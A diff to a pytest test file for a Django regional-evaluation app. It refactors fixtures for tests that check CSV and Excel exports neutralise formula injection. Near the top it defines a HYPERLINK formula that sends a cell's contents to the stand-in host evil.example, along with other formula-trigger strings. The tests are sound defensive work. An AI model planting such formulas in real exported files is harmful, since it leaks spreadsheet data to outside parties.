@@ -34,7 +34,7 @@ from cityeval.evaluations.models import ItemValue
 from cityeval.masterplans.models import Masterplan, Program
 from cityeval.regions.models import Province, Region
 from cityeval.reviews.services import answer_clarification, request_clarification
-from tests.reviews.conftest import World, in_review, media, world  # noqa: F401 (fixtures)
+from tests.world import World
 
 HOSTILE = '=HYPERLINK("http://evil.example/?c="&B2,"x")'
 OTHERS = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
@@ -110,24 +110,33 @@ def check_excel(content: bytes, texts: list[str]) -> None:
         assert text in written, text
 
 
+# Region B's evaluation in the document review (`World.reviewing_b`) and its people.
+def maturity_items(w: World) -> list[ItemValue]:
+    return list(
+        ItemValue.objects.filter(
+            evaluation=w.reviewing_b, indicator__kind="maturity", self_value__isnull=False
+        ).order_by("indicator__sequence")
+    )
+
+
 def audit_csv(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
     request_clarification(
-        evaluation=w.evaluation,
-        items=w.maturity_items()[:1],
+        evaluation=w.reviewing_b,
+        items=maturity_items(w)[:1],
         message="Mohon jelaskan.",
-        user=w.people["lead"],
+        user=w.people["assessor_b"],
     )
-    answer_clarification(evaluation=w.evaluation, user=w.people["coordinator"], answer=HOSTILE)
-    response = w.client("coordinator").get(reverse("evaluations:log", args=[w.evaluation.pk]))
+    answer_clarification(evaluation=w.reviewing_b, user=w.people["coordinator_b"], answer=HOSTILE)
+    response = w.client("coordinator_b").get(reverse("evaluations:log", args=[w.reviewing_b.pk]))
     assert response.status_code == 200
     yield "csv", response.content, [HOSTILE]
 
 
 def open_data(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
-    Region.objects.filter(pk=w.evaluation.region_id).update(full_name=HOSTILE)
-    Province.objects.filter(regions__pk=w.evaluation.region_id).update(name="@SUM(A1:A9)")
+    Region.objects.filter(pk=w.region_b.pk).update(full_name=HOSTILE)
+    Province.objects.filter(regions__pk=w.region_b.pk).update(name="@SUM(A1:A9)")
     admin = w.client("admin")
-    cycle = w.evaluation.cycle_id
+    cycle = w.review_cycle.pk
     workbook = admin.get(reverse("exports:xlsx", args=[cycle]))
     regions = admin.get(reverse("exports:regions_csv", args=[cycle]))
     items = admin.get(reverse("exports:items_csv", args=[cycle]))
@@ -138,7 +147,7 @@ def open_data(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
 
 
 def masterplan_template(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
-    region = w.evaluation.region
+    region = w.region_b
     masterplan = Masterplan.objects.create(
         region=region, title=HOSTILE, start_year=2019, end_year=2028, regulation="Perbup 12/2019"
     )
@@ -149,31 +158,31 @@ def masterplan_template(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
         description="-2+3",
         dimension="",
         element="",
-        owner=w.health,
+        owner=w.opd_b,
         budget=Decimal(1000),
         start_year=2020,
         end_year=2021,
     )
-    response = w.client("coordinator").get(reverse("masterplans:template", args=[region.pk]))
+    response = w.client("coordinator_b").get(reverse("masterplans:template", args=[region.pk]))
     assert response.status_code == 200
     yield "xlsx", response.content, ["=1+1", "-2+3"]
 
 
 def offline_workbook(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
-    item = w.maturity_items()[0]
+    item = maturity_items(w)[0]
     ItemValue.objects.filter(pk=item.pk).update(narrative=HOSTILE)
     request_clarification(
-        evaluation=w.evaluation, items=[item], message="Lengkapi.", user=w.people["lead"]
+        evaluation=w.reviewing_b, items=[item], message="Lengkapi.", user=w.people["assessor_b"]
     )
-    url = reverse("evaluations:workbook_download", args=[w.evaluation.pk])
-    response = w.client("coordinator").get(url)
+    url = reverse("evaluations:workbook_download", args=[w.reviewing_b.pk])
+    response = w.client("coordinator_b").get(url)
     assert response.status_code == 200
     yield "xlsx", response.content, [HOSTILE]
 
 
 def score_output(w: World) -> Iterator[tuple[str, bytes, list[str]]]:
     folder = Path(settings.MEDIA_ROOT)
-    codes = [item.indicator.code for item in w.maturity_items()[:3]]
+    codes = [item.indicator.code for item in maturity_items(w)[:3]]
     table = folder / "table.csv"
     table.write_text(
         "region," + ",".join(codes) + "\n" + "=1+1,3,2,1\n" + "@SUM(A1),1,2,3\n", encoding="utf-8"
@@ -194,8 +203,8 @@ WRITERS: dict[str, Callable[[World], Iterator[tuple[str, bytes, list[str]]]]] = 
 
 
 @pytest.mark.parametrize("writer", WRITERS)
-def test_no_writer_lets_a_formula_through(in_review: World, writer: str) -> None:  # noqa: F811
-    produced = list(WRITERS[writer](in_review))
+def test_no_writer_lets_a_formula_through(world: World, writer: str) -> None:
+    produced = list(WRITERS[writer](world))
     assert produced
     for kind, content, texts in produced:
         (check_csv if kind == "csv" else check_excel)(content, texts)
